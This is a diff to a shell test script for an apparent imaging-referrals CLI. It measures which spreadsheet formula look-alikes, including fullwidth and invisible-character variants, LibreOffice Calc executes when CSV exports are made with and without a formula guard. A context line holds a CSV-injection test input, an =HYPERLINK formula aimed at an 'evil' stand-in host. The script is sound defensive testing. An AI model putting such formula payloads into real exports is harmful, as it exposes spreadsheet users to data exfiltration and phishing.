@@ -16,7 +16,7 @@ echo '{"patient":{"first_name":"@SUM(1+9)","last_name":"=HYPERLINK(\"http://evil
 imaging referrals export -o "$work/guarded.csv" 2> /dev/null
 imaging referrals export --no-formula-guard -o "$work/raw.csv" 2> /dev/null
 for f in raw guarded; do
-  soffice --headless --convert-to html --outdir "$work/out" "$work/$f.csv" > /dev/null 2>&1
+  soffice --headless --infilter="CSV:44,34,76,1" --convert-to html --outdir "$work/out" "$work/$f.csv" > /dev/null 2>&1
   echo "== $f.csv as LibreOffice Calc shows the last two patients (first name | last name):"
   python3 - "$work/out/$f.html" <<'PY'
 import html, re, sys
@@ -26,3 +26,57 @@ for r in rows[-2:]:
     print('  ', ' | '.join(cells[7:9]))
 PY
 done
+
+# Issue 8 item 8: which formula look-alikes does Calc run? One referral per form (the form as the
+# first name, a label as the last name), exported with and without the guard; a form "runs" when
+# Calc shows something other than the text that was exported.
+forms=$(mktemp)
+node - "$forms" <<'JS'
+const forms = [
+  ['ascii =', '=1+1'], ['ascii +', '+1+1'], ['ascii -', '-1+1'], ['ascii @', '@SUM(1+1)'],
+  ['tab =', '\t=1+1'], ['space =', ' =1+1'], ['no-break space =', '\u00a0=1+1'],
+  ['line feed =', '\n=1+1'], ['zero-width space =', '\u200b=1+1'], ['BOM =', '\ufeff=1+1'],
+  ['fullwidth =', '\uff1d1+1'], ['fullwidth +', '\uff0b1+1'], ['fullwidth -', '\uff0d1+1'],
+  ['fullwidth @', '\uff20SUM(1+1)'], ['small =', '\ufe661+1'], ['small +', '\ufe621+1'],
+  ['small -', '\ufe631+1'], ['minus sign U+2212', '\u22121+1'],
+];
+require('node:fs').writeFileSync(process.argv[2], JSON.stringify(forms));
+JS
+for i in $(node -e "console.log(JSON.parse(require('fs').readFileSync('$forms','utf8')).map((_, i) => i).join(' '))"); do
+  node -e "const f=JSON.parse(require('fs').readFileSync('$forms','utf8'))[$i]; process.stdout.write(JSON.stringify({patient:{first_name:f[1],last_name:'FORM'+$i}}))" |
+    imaging referrals create --file - > /dev/null 2>&1
+done
+imaging referrals export -o "$work/forms-guarded.csv" 2> /dev/null
+imaging referrals export --no-formula-guard -o "$work/forms-raw.csv" 2> /dev/null
+for f in forms-raw forms-guarded; do
+  soffice --headless --infilter="CSV:44,34,76,1" --convert-to html --outdir "$work/out" "$work/$f.csv" > /dev/null 2>&1
+done
+echo "== each form: how Calc shows it unguarded (runs?) | guarded (runs?)"
+python3 - "$forms" "$work/forms-raw.csv" "$work/out/forms-raw.html" "$work/forms-guarded.csv" "$work/out/forms-guarded.html" <<'PY'
+import csv, html, json, re, sys
+forms = json.load(open(sys.argv[1], encoding='utf-8'))
+def shown(csv_path, html_path):
+    exported = {}
+    with open(csv_path, encoding='utf-8', newline='') as fh:
+        for row in csv.reader(fh):
+            if len(row) > 8 and row[8].startswith('FORM'): exported[int(row[8][4:])] = row[7]
+    seen = {}
+    for r in re.findall(r'<tr.*?</tr>', open(html_path, encoding='utf-8', errors='replace').read(), re.S):
+        cells = re.findall(r'<td(.*?)>(.*?)</td>', r, re.S)
+        if len(cells) > 8:
+            last = html.unescape(re.sub('<[^>]+>', '', cells[8][1])).strip()
+            if last.startswith('FORM'):
+                attrs, text = cells[7]
+                seen[int(last[4:])] = (html.unescape(re.sub('<br/?>', '\n', re.sub(r'<(?!br)[^>]+>', '', text))), 'sdval=' in attrs or 'formula' in attrs.lower())
+    return exported, seen
+raw_e, raw_s = shown(sys.argv[2], sys.argv[3])
+g_e, g_s = shown(sys.argv[4], sys.argv[5])
+def verdict(exported, seen, i):
+    if i not in seen: return 'missing'
+    text, numeric = seen[i]
+    runs = numeric or text.strip() != exported.get(i, '').strip()
+    return f"{text!r} ({'RUNS' if runs else 'text'})"
+for i, (label, value) in enumerate(forms):
+    print(f"   {label:20} {verdict(raw_e, raw_s, i):34} | {verdict(g_e, g_s, i)}")
+PY
+rm -f "$forms"
